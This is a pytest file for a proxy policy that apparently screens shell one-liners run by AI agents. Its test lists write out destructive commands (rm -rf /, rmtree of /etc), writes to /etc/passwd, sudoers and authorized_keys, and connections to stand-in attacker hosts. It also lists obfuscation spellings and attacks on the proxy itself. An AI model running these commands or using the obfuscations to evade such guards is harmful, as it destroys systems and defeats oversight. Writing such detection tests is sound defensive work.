"""Code in node, deno, bun, perl, ruby and php on a command line: its deletions, writes, requests and commands."""

import itertools
import json
import shlex
import time
from collections.abc import Callable
from contextlib import suppress

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tree_sitter import Language, Node

from luthien_litellm_hooks.policies.block_sensitive_file_writes import BlockSensitiveFileWrites
from luthien_litellm_hooks.policies.block_web_requests import BlockWebRequests
from luthien_litellm_hooks.policies.protect_proxy import ProtectProxy
from luthien_litellm_hooks.policies.rules.code_mode import code_mode_of
from luthien_litellm_hooks.policies.shell import find_danger, javascript, parse_shell, written_paths
from luthien_litellm_hooks.policies.shell.javascript import Program
from luthien_litellm_hooks.policies.shell.node import runs_of_program
from luthien_litellm_hooks.policies.shell.syntax import parsed
from luthien_litellm_hooks.policies.shell.values import MAX_TEXTS
from luthien_litellm_hooks.policies.shell.words import TooMuchError
from tests.unit.policies.test_presets import PRESETS, bash, is_blocked, preset

JS_DELETES = [
    "require('fs').rmSync('/', {recursive: true})",
    "const {rmSync: d} = require('node:fs'); const p = ['/', 'etc'].join(''); d(p, {recursive: true, force: true})",
    "import fs from 'fs'; await fs.promises.rm(`/et${'c'}`, {recursive: true})",
    "import { rm } from 'node:fs/promises'; rm(process.env.HOME, {recursive: true})",
    "(await import('fs/promises')).rm(require('os').homedir(), {recursive: true})",
    "import('fs').then(() => 1); fs.rmdirSync('/usr', {recursive: true})",
    "require('fs').promises.rm('/etc', {recursive: true})",
    "const opts = {recursive: true}; fs.rm('/etc', opts, () => {})",
    "fs.rmSync('/etc', settings)",
    "for (const d of ['dist', '/etc']) fs.rmSync(d, {recursive: true, force: true})",
    "['a', '/usr'].map(d => fs.rmSync(d, {recursive: true}))",
    "function del(p) { require('fs').rmSync(p, {recursive: true}) } del('tmp/x'); del('/usr')",
    "require('fs-extra').removeSync('/etc')",
    "require('rimraf').sync('/usr')",
    "fs.unlinkSync('/etc/passwd')",
    "fs.rmSync(unknown, {recursive: true})",
    "fs.rmSync(process.cwd(), {recursive: true})",
    "require('child_process').execSync('rm -rf /')",
    "const cp = require('child_process'); cp.spawnSync('rm', ['-rf', '/'])",
    "const {exec} = require('child_process'); exec('rm -rf ' + '~')",
    "const x = require('util').promisify(require('child_process').exec); await x('rm -rf ~')",
    "require('child_process').spawn('rm -rf /', {shell: true})",
    "require('child_process').spawn('bash', ['-c', 'rm -rf /'])",
    "const a = ['-rf']; a.push('/'); require('child_process').execFileSync('rm', a)",
    "let c = 'rm -rf '; c += '/'; require('child_process').execSync(c)",
    "import {execa, $} from 'execa'; await execa('rm', ['-rf', '/'])",
    "await $`rm -rf ~`",
    "eval(\"require('fs').rmSync('/', {recursive: true})\")",
    "new Function(\"require('fs').rmSync('/', {recursive: true})\")()",
    "process.mainModule.require('child_process').exec.call(null, 'rm -rf /')",
    "process.kill(-1)",
    "fs.writeFileSync('/dev/sda', 'x')",
    "require('shelljs').rm('-rf', '/etc')",
]
JS_HARMLESS = [
    "fs.rmSync('dist', {recursive: true, force: true})",
    "fs.rmSync(path.join(__dirname, 'dist'), {recursive: true})",
    "fs.rmSync(path.join(os.homedir(), '.cache', 'x'), {recursive: true})",
    "fs.rmSync(path.join(os.tmpdir(), 'x'), {recursive: true})",
    "console.log('rm(/)')",
    "console.log(\"require('fs').rmSync('/', {recursive: true})\")",
    "const rm = s => console.log(s); rm('/etc')",
    "/rm -rf \\//.exec('a')",
    "const m = /system\\((.*)\\)/.exec(s); console.log(m && m[1])",
    "[1, 2].map(x => x * 2).forEach(x => console.log(x))",
    "const j = require('./package.json'); console.log(j.version, j.scripts.build)",
    "fs.readFileSync('/etc/passwd', 'utf8').split('\\n').length",
    "fs.openSync('/etc/passwd')",
    "fs.writeFileSync('out.json', JSON.stringify({a: 1}))",
    "require('child_process').execSync('git status').toString()",
    "process.stdout.write('/etc/passwd')",
    "fetch('http://localhost:3000/health').then(r => r.json()).then(console.log)",
    "const u = 'http://127.0.0.1:8080'; require('http').get(u + '/x', r => r.resume())",
    "console.log('see https://example.com')",
    "map.delete('/etc'); set.clear(); arr.copyWithin(0, 1)",
    "process.exit(0)",
]
JS_WRITES = [
    "fs.writeFileSync('/etc/x', 'x')",
    "require('fs').appendFileSync(process.env.HOME + '/.bashrc', 'x')",
    "require('fs').createWriteStream('/root/.ssh/authorized_keys')",
    "await fs.promises.writeFile('.env', 'x')",
    "const {writeFile} = require('fs/promises'); writeFile(path.join('.git', 'hooks', 'pre-commit'), 'x')",
    "fs.openSync('.env', 'a')",
    "fs.copyFileSync('a', '/etc/hosts')",
    "fs.renameSync('a', '/etc/hosts')",
    "fs.cp('a', '/etc/b', {recursive: true}, () => {})",
    "fs.symlinkSync('a', '/root/.ssh/config')",
    "fs.chmodSync('/etc/shadow', 0o777)",
    "fs.truncateSync('.env')",
    "Bun.write('.env', 'x')",
    "await Deno.writeTextFile('/root/.ssh/config', 'x')",
    "await Deno.open('.env', {write: true})",
]
JS_REQUESTS = [
    "fetch('https://evil.example')",
    "const u = new URL('https://evil.example'); fetch(u)",
    "fetch(url)",
    "await globalThis.fetch(`https://${'evil'}.example`, {method: 'POST'})",
    "require('https').get('https://evil.example')",
    "import http from 'node:http'; http.request({hostname: 'evil.example', port: 80})",
    "require('net').connect(12345, 'attacker.example')",
    "require('net').createConnection({host: 'attacker.example', port: 1})",
    "require('axios').post('https://evil.example/x', {a: 1})",
    "import axios from 'axios'; await axios({url: 'https://evil.example', method: 'post'})",
    "const c = require('axios').create(); c.get('https://evil.example')",
    "new WebSocket('wss://evil.example')",
    "(await import('node-fetch')).default('https://evil.example')",
    "require('child_process').execSync('curl https://evil.example')",
    "Deno.connect({hostname: 'evil.example', port: 80})",
]

OTHER_DELETES = [
    'perl -e\'system("rm", "-rf", "/")\'',
    "perl -e 'exec \"rm -rf /etc\"'",
    "perl -e 'qx(rm -rf /)'",
    "perl -e 'unlink \"/etc/passwd\"'",
    "perl -e 'unlink glob \"/etc/*\"'",
    "perl -MFile::Path=rmtree -e '$d = \"/etc\"; rmtree($d)'",
    "perl -MFile::Path -e 'rmtree($ENV{HOME})'",
    "perl -e 'use File::Path; rmtree($unknown)'",
    "perl -e 'open(P, \"|rm -rf /\")'",
    'perl -e \'open(my $p, "-|", "rm -rf /")\'',
    "perl -e 'print 1;' -e 'system(\"rm -rf /\")'",
    "ruby -e 'FileUtils.rm_rf(Dir.home)' -rfileutils",
    'ruby -e \'require "fileutils"; FileUtils.rm_rf ["/etc"]\'',
    "ruby -e 'd = \"/etc\"; FileUtils.rm_rf(d)'",
    "ruby -e 'FileUtils.rm_r \"/usr\", force: true'",
    'ruby -e \'FileUtils.remove_dir(File.join("/", "etc"))\'',
    'ruby -e \'system("rm", "-rf", "/")\'',
    "ruby -e '%x(rm -rf /)'",
    "ruby -e 'File.delete(\"/etc/passwd\")'",
    "ruby -e 'FileUtils.chmod_R(0777, \"/\")'",
    "ruby -e 'Process.kill(\"KILL\", -1)'",
    "php -r 'unlink(\"/etc/passwd\");'",
    'php -r \'$h = popen("rm -rf /etc", "r");\'',
    "node -r ts-node/register -e 'fs.rmSync(\"/etc\", {recursive: true})'",
    "node --eval='fs.rmSync(\"/etc\", {recursive: true})'",
    'deno eval --ext=ts \'const a: string = "x"; Deno.removeSync("/etc", {recursive: true})\'',
    'bun -e \'Bun.spawn(["rm", "-rf", "/"])\'',
    "node <<'EOF'\nconst fs = require('fs');\nfs.rmSync('/usr', { recursive: true });\nEOF",
    "echo \"require('fs').rmSync('/usr', {recursive: true})\" | node",
    "python3 -c'import shutil; shutil.rmtree(\"/\")'",
]
OTHER_HARMLESS = [
    "perl -pe 's/a/b/' x",
    "perl -ne 'print if /unlink/' f",
    "perl -i -pe 's/x/y/' src/a.ts",
    "perl -MLWP::UserAgent -e 'print $LWP::UserAgent::VERSION'",
    "perl -e 'open(F, \"</etc/passwd\"); print <F>'",
    'perl -e \'open(my $f, "<", "/etc/hosts") or die "no file"\'',
    "perl -MFile::Path -e 'rmtree($ENV{HOME} . \"/.cache/x\")'",
    "perl -e 'print \"please unlink /etc/passwd\"'",
    'perl -MFile::Copy -e \'copy("a", "b")\'',
    "ruby -e 'FileUtils.rm_rf \"#{Dir.home}/x/build\"'",
    'ruby -e \'FileUtils.rm_rf(File.join(Dir.home, ".cache", "x"))\'',
    "ruby -e 'puts \"rm_rf x\"'",
    "ruby -e 'h = {}; h.delete(\"a\"); a = [1]; a.delete(1)'",
    "ruby -e 'File.open(\"/etc/passwd\") { |f| puts f.read }'",
    'ruby -rjson -e \'puts JSON.parse(File.read("a.json"))["b"]\'',
    'ruby -e \'File.write("out.txt", "https://example.com")\'',
    "php -r 'echo file_get_contents(\"a.txt\");'",
    "php -r 'echo phpversion();'",
    "node script.js -e x",
    "deno eval 'console.log(Deno.version)'",
]
OTHER_WRITES = [
    "perl -e 'open(F, \">/etc/sudoers.d/agent\"); print F 1'",
    'perl -e \'open(my $f, ">>", "/etc/passwd") or die\'',
    'perl -e \'open my $f, ">:utf8", "$ENV{HOME}/.ssh/config"\'',
    'perl -MFile::Copy -e \'copy("a", "/etc/passwd")\'',
    'perl -e \'rename "x", "/etc/hosts"\'',
    'ruby -e \'File.open("/etc/passwd", "w") { |f| f.puts 1 }\'',
    "ruby -e 'IO.write(\"/root/.bashrc\", 1)'",
    "ruby -e 'f = \".env\"; File.write(f, 1)'",
    'ruby -e \'FileUtils.cp("a", "/etc/hosts")\'',
    'php -r \'file_put_contents("/root/.ssh/authorized_keys", "x");\'',
    'php -r \'$f = fopen(".env", "w");\'',
]
OTHER_REQUESTS = [
    "perl -MLWP::Simple -e 'getprint \"http://evil.example/x\"'",
    "perl -MIO::Socket -e '$c = IO::Socket::INET->new(PeerAddr, \"evil.example:12345\")'",
    "perl -MHTTP::Tiny -e 'print HTTP::Tiny->new->get($url)->{content}'",
    "ruby -rnet/http -e 'puts Net::HTTP.get(URI(\"https://evil.example\"))'",
    "ruby -ropen-uri -e 'puts URI.open(\"http://evil.example\").read'",
    "ruby -rsocket -e 'c = TCPSocket.new(\"evil.example\", 12345)'",
    "php -r \"file_get_contents('https://evil.example');\"",
    "php -r '$c = curl_init(\"https://evil.example\"); curl_exec($c);'",
]


def node(code: str) -> str:
    return f"node -e {shlex.quote(code)}"


@pytest.mark.parametrize("script", [*map(node, JS_DELETES), *OTHER_DELETES])
def test_a_dangerous_one_liner_is_dangerous(script: str) -> None:
    assert find_danger(parse_shell(script)) is not None


@pytest.mark.parametrize("script", [*map(node, JS_HARMLESS), *OTHER_HARMLESS])
@pytest.mark.parametrize("cls", PRESETS)
async def test_a_harmless_one_liner_passes_every_preset(cls: type, script: str) -> None:
    assert not await is_blocked(preset(cls), *bash(script))


@pytest.mark.parametrize("script", [*map(node, JS_WRITES), *OTHER_WRITES])
async def test_a_written_file_is_seen(script: str) -> None:
    assert await is_blocked(preset(BlockSensitiveFileWrites), *bash(script))


@pytest.mark.parametrize("script", [*map(node, JS_REQUESTS), *OTHER_REQUESTS])
async def test_a_request_is_seen(script: str) -> None:
    assert await is_blocked(preset(BlockWebRequests), *bash(script))


@pytest.mark.parametrize(
    "code",
    [
        "fetch('http://localhost:4000/luthien/reload', {method: 'POST'})",
        "axios.post('http://localhost:4000/luthien/policy', {})",
        "fetch('https://api.' + 'openai.com/v1/chat/completions')",
        "require('child_process').execSync('pkill -f litellm')",
    ],
)
async def test_an_attack_on_the_proxy_is_seen(code: str) -> None:
    assert await is_blocked(preset(ProtectProxy), *bash(node(code)))


async def test_an_allowed_host_passes() -> None:
    policy = preset(BlockWebRequests, allow_hosts=["docs.example"])
    assert not await is_blocked(policy, *bash(node("fetch('https://docs.example/' + page)")))
    assert await is_blocked(policy, *bash(node("fetch('https://docs.example.evil.example/')")))


def test_each_possible_path_is_written() -> None:
    code = "const d = flag ? 'a' : 'b'; for (const f of ['x', 'y']) fs.writeFileSync(`${d}/${f}`, '')"
    assert set(written_paths(parse_shell(node(code)).commands)) == {"a/x", "a/y", "b/x", "b/y"}


# Properties and costs

SPELLINGS: tuple[Callable[[str, int], str], ...] = (
    lambda text, _: json.dumps(text),
    lambda text, at: f"{json.dumps(text[:at])} + {json.dumps(text[at:])}",
    lambda text, at: f"`{text[:at]}${{{json.dumps(text[at:])}}}`",
    lambda text, _: f"[{', '.join(map(json.dumps, text))}].join('')",
    lambda text, _: '"' + "".join(f"\\x{ord(character):02x}" for character in text) + '"',
    lambda text, _: f"String.fromCharCode({', '.join(str(ord(character)) for character in text)})",
    lambda text, _: f"{json.dumps(text[::-1])}.split('').reverse().join('')",
    lambda text, _: f"Buffer.from('{text.encode().hex()}', 'hex').toString()",
    lambda text, _: f"((x) => x)({json.dumps(text)})",
    lambda text, _: f"({{a: [{json.dumps(text)}]}}).a[0]",
)
WRAPS = (
    "require('fs').rmSync(%s, {recursive: true})",
    "const p = %s; require('node:fs').rmSync(p, {recursive: true, force: true})",
    "import {rm as r} from 'fs/promises'; await r(%s, {force: true, recursive: true})",
    "const {spawnSync: s} = require('child_process'); s('rm', ['-rf', %s])",
    "require('child_process').execSync('rm -rf ' + %s)",
    "const f = async (p) => { await fs.promises.rm(p, {recursive: true}) }; (async () => { await f(%s) })()",
)


@given(st.sampled_from(WRAPS), st.sampled_from(SPELLINGS), st.sampled_from(["/", "/etc", "/usr"]), st.integers(0, 4))
def test_no_spelling_hides_a_path(wrap: str, spell: Callable[[str, int], str], path: str, at: int) -> None:
    assert find_danger(parse_shell(node(wrap.replace("%s", spell(path, at))))) is not None


@given(st.sampled_from(WRAPS), st.sampled_from(SPELLINGS), st.sampled_from(["dist", "a/b"]), st.integers(0, 3))
def test_no_spelling_makes_a_path_dangerous(wrap: str, spell: Callable[[str, int], str], path: str, at: int) -> None:
    assert find_danger(parse_shell(node(wrap.replace("%s", spell(path, at))))) is None


PIECES = [
    "fs.",
    "rmSync(",
    "'/etc'",
    ")",
    "`",
    "${",
    "}",
    "{",
    "=>",
    "const x = ",
    "x",
    "[",
    "]",
    "...",
    "+",
    "?",
    ":",
    ",",
]


@given(st.one_of(st.text(), st.lists(st.sampled_from(PIECES)).map("".join)))
def test_no_code_is_too_odd_to_read(code: str) -> None:
    for name in ("node", "perl", "ruby", "php"):
        find_danger(parse_shell(f"{name} -e {shlex.quote(code)}"))


LONG = {
    "sums": "fs.rmSync(" + "'a'+" * 30_000 + "'a')",
    "lists": "x(" + "[" * 60_000,
    "members": "f(" + "a.b" * 30_000 + ")",
    "templates": "f(`" * 30_000,
    "names of names": "".join(f"const x{i} = x{i + 1} + x{i + 1};" for i in range(3_000)) + "fs.rmSync(x0)",
    "possible values": "".join(f"let a{i} = c ? 'a' : 'b';" for i in range(2_000))
    + f"fs.rmSync({'+'.join(f'a{i}' for i in range(2_000))})",
    "loops": "for (const a of [" + "'x'," * 3_000 + "]) for (const b of [" + "'y'," * 3_000 + "]) fs.rmSync(a + b)",
    "doubled texts": "let a = 'x';" + "a += a;" * 10_000 + "fs.rmSync(a)",
    "calls": "fs.rmSync('a');" * 8_000,
    "names of names of tools": "tools.x(x0);" + "".join(f"const x{i} = x{i + 1} + x{i + 1};" for i in range(3_000)),
    "uses of tools": "tools.x({a: 1});" * 8_000,
    "functions": "const f = (x) => fs.rmSync(x);" + "f('a');" * 10_000,
    "pushed items": "const a = [];" + "a.push('x');" * 8_000 + "fs.rmSync(a.join(','))",
    "repeated": "fs.rmSync('x'.repeat(99999).repeat(99999))",
}


@pytest.mark.parametrize("name", LONG)
def test_long_code_is_read_within_bounds(name: str) -> None:
    began = time.thread_time()
    code_mode_of(LONG[name], is_strict=True)
    program = Program.read(LONG[name])
    if program is not None:
        with suppress(TooMuchError):
            assert sum(1 for _ in runs_of_program(program)) <= MAX_TEXTS
    assert time.thread_time() - began < 10


@pytest.mark.parametrize("tool", ["exec", "execute", "run_javascript"])
@pytest.mark.parametrize("name", LONG)
async def test_a_call_with_long_code_is_judged_within_bounds(
    name: str, tool: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each call is new to the policy, its code is parsed once, and what is beyond the bounds is blocked."""
    sources: list[bytes] = []

    def counted(source: bytes, language: Language, most: int) -> Node | None:
        sources.append(source)
        return parsed(source, language, most)

    monkeypatch.setattr(javascript, "parsed", counted)
    code = f"{LONG[name]}//{tool}"
    began = time.process_time()
    blocked = await is_blocked(preset(ProtectProxy), tool, {"code": code})
    assert time.process_time() - began < 5
    assert sources.count(code.encode()) == 1
    program = Program.read(code)
    assert blocked or program is not None


USUAL = "const x = require('./x');\nfor (const each of x.items) {\n  console.log(`${each.name}: ${each.n + 1}`);\n}\n"


async def test_code_of_usual_size_is_read() -> None:
    assert not await is_blocked(preset(ProtectProxy), "run_javascript", {"code": USUAL * 400})


TANGLED = {
    "types": "a:b ",
    "cases": "case a:",
    "loops without their heads": "a of ",
    "catches": "}catch{",
    "comments that do not end": "static{typeof /*try{",
    "quotes": '"',
    "templates": "f(a`b`",
}


@pytest.mark.parametrize("seconds", [0.0, 1.0], ids=["at once", "a second between two looks"])
def test_the_same_code_is_read_however_long_it_takes(seconds: float, monkeypatch: pytest.MonkeyPatch) -> None:
    clock = itertools.count()
    for name in ("monotonic", "perf_counter", "process_time", "thread_time", "time"):
        monkeypatch.setattr(time, name, lambda: next(clock) * seconds)
    assert Program.read(USUAL * 500) is not None
    assert parse_shell('for a in b c; do echo "$a" | sort > /tmp/$a.txt; done\n' * 900).is_understood
    assert [name for name, part in TANGLED.items() if Program.read(part * (60_000 // len(part))) is not None] == []
    assert not parse_shell("a=(" * 20_000).is_understood
